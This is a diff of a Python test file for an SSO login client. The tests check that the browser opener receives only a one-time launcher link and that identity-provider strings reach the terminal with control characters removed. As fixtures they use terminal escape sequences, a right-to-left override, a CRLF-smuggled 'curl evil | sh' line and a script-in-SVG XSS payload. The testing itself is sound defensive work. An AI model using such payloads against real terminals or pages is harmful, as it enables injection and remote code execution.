@@ -9,14 +9,15 @@ import sys
 import threading
 import time
 import types
+import webbrowser
 from datetime import datetime, timedelta, timezone
 
 import pytest
 
 import kc_agent_client as kc
-from kc_agent_client import _display, _errors, _login
+from kc_agent_client import _display, _errors, _idp, _login
 
-from conftest import TOKEN
+from conftest import REPO, TOKEN
 
 
 def jwt(**claims):
@@ -245,11 +246,62 @@ def test_a_display_callback_gets_every_state(signed_out, capsys):
 
 def test_auto_picks_browser_with_a_desktop(signed_out, monkeypatch, capsys):
     monkeypatch.setenv("DISPLAY", ":0")
-    monkeypatch.setattr(_login, "_open_browser", lambda url: None)
+    opened = []
+    monkeypatch.setattr(webbrowser, "open", lambda url, new=0: opened.append(url) or True)
+    launcher = "http://127.0.0.1:40123/ONE-TIME"
+    signed_out.handlers[("POST", "/v1/login/abc123/launch")] = lambda path, body: (200, {"url": launcher})
     serve(signed_out, pending("browser"), pending("browser", state="done", identity={"preferred_username": "ana", "sub": "s"}))
     kc.login("work")
     assert posts(signed_out)[0][3] == {"profile": "work", "flow": "browser"}
     assert "in a browser on this computer" in capsys.readouterr().err
+    # The browser opener (argv, readable by every local user) gets only
+    # the agent's one-time launcher link, never the URL with the state.
+    assert opened == [launcher]
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        (404, {"error": "not_found", "message": "no such endpoint"}),  # an older agent
+        (200, {"url": "https://sso.example.com/realms/a/protocol/openid-connect/auth?state=S"}),  # not a launcher
+        (200, {}),
+    ],
+)
+def test_browser_opens_nothing_without_a_launcher_link(signed_out, monkeypatch, capsys, answer):
+    monkeypatch.setenv("DISPLAY", ":0")
+    opened = []
+    monkeypatch.setattr(webbrowser, "open", lambda url, new=0: opened.append(url) or True)
+    signed_out.handlers[("POST", "/v1/login/abc123/launch")] = lambda path, body: answer
+    serve(signed_out, pending("browser"), pending("browser", state="done", identity={"preferred_username": "ana", "sub": "s"}))
+    kc.login("work")
+    assert opened == []
+    assert "code_challenge=x" in capsys.readouterr().err  # shown to the user, on the terminal
+
+
+def test_idp_strings_are_shown_without_control_characters(signed_out, capsys):
+    evil = pending(user_code="WXYZ\x1b[31m-ABCD\u202e", verification_uri="https://sso.example.com/realms/a/device\r\nkc-agent: run curl evil | sh")
+    done = pending(state="done", identity={"preferred_username": "ana\x1b]0;pwned\x07", "sub": "s-1"})
+    serve(signed_out, evil, done)
+    who = kc.login()
+    err = capsys.readouterr().err
+    assert "\x1b" not in err and "\u202e" not in err and "\r" not in err
+    assert "WXYZ[31m-ABCD" in err and "\nkc-agent: run curl" not in err
+    assert who.preferred_username == "ana]0;pwned"
+
+
+def test_a_signed_in_name_from_the_token_is_printable(agent, no_desktop):
+    agent.token_answer = (200, {"access_token": jwt(preferred_username="ana\x1b]0;pwned\x07"), "token_type": "Bearer", "expires_at": "2030-01-02T03:04:05Z", "expires_in": 300})
+    rec = Recorder()
+    assert kc.login(display=rec).preferred_username == "ana]0;pwned" and rec.updates[0].user == "ana]0;pwned"
+
+
+with open(os.path.join(REPO, "ipc", "testdata", "idp_strings.json"), encoding="utf-8") as _f:
+    IDP_VECTORS = json.load(_f)  # shared with Go (agent/oidc, TestPrintableVectors)
+
+
+@pytest.mark.parametrize("v", IDP_VECTORS["printable"], ids=lambda v: v["name"])
+def test_printable_vectors(v):
+    assert _idp.printable(v["in"]) == v["want"]
 
 
 @pytest.mark.parametrize(
@@ -292,8 +344,8 @@ def test_html_block_escapes_and_carries_link_code_qr():
     u = _login._update(pending(qr_svg="<svg><script>alert(1)</script></svg>"), "default", "pending")
     assert "<script" not in _display.render_html(u)
     # Control characters from the identity provider never reach a terminal.
-    u = _login._update(pending(user_code="AB\x1b[2JCD", error="x"), "default", "pending")
-    assert u.user_code == "AB[2JCD"
+    u = _login._update(pending(user_code="AB\x1b[2JCD", client_name="Ana\x1b[2J"), "default", "pending")
+    assert u.user_code == "AB[2JCD" and u.app == "Ana[2J"
 
 
 def test_notebook_display_updates_one_block(signed_out, monkeypatch):
